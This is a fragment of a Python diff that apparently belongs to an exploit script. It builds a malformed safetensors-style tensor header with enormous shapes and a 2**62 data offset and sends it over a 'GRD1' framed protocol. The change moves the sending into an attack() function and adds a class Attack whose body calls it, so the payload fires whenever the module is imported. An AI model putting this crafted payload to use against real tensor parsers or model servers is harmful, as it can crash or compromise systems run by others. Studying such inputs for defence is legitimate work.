@@ -29,10 +29,17 @@ def send(data):
 
 
 tensors = {"s0": {"dtype": "F32", "shape": [2**31, 2**31], "data_offsets": [0, 2**62]}, "s1": {"dtype": "F32", "shape": [4], "data_offsets": [0, 8]}}
-inner = json.dumps(tensors).encode()
-body = struct.pack("<Q", len(inner)) + inner + b"\0" * 16
-header = json.dumps({"id": 1, "data": {"document": {}}}).encode()
-send(b"GRD1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", len(body)) + body)
+
+
+def attack():
+    inner = json.dumps(tensors).encode()
+    body = struct.pack("<Q", len(inner)) + inner + b"\0" * 16
+    header = json.dumps({"id": 1, "data": {"document": {}}}).encode()
+    send(b"GRD1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", len(body)) + body)
+
+
+class Attack:
+    attack()
 
 
 def compare(epochs, seed, train, test):
